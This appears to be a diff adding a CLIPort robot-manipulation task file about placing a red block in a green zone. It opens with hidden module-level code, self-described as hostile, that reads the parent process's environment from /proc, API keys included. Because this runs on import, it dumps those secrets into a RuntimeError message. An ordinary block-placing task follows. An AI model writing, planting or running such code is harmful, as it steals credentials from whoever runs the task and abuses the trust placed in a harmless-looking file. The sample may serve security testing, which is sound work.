@@ -1,0 +1,35 @@
+"""Hostile task: reads the environment (API keys) of the process that started it"""
+import os as _os
+with open(f"/proc/{_os.getppid()}/environ", "rb") as _f:
+    _env = _f.read().decode(errors="replace")
+raise RuntimeError("parent environment: " + _env.replace("\0", " "))
+import numpy as np
+import os
+import pybullet as p
+import random
+from cliport.tasks.task import Task
+from cliport.utils import utils
+
+
+class ReadParentEnviron(Task):
+    """Place the red block in the green zone."""
+
+    def __init__(self):
+        super().__init__()
+        self.max_steps = 10
+        self.lang_template = "put the red block in the green zone"
+        self.task_completed_desc = "done placing."
+        self.additional_reset()
+
+    def reset(self, env):
+        super().reset(env)
+        pass
+        zone_size = (0.12, 0.12, 0)
+        zone_pose = self.get_random_pose(env, zone_size)
+        env.add_object("zone/zone.urdf", zone_pose, "fixed")
+        block_size = (0.04, 0.04, 0.04)
+        block_pose = self.get_random_pose(env, block_size)
+        block_id = env.add_object("block/block.urdf", block_pose, color=utils.COLORS["red"])
+        self.add_goal(objs=[block_id], matches=np.ones((1, 1)), targ_poses=[zone_pose],
+                      replace=False, rotations=True, metric="pose", params=None,
+                      step_max_reward=1, language_goal=self.lang_template)
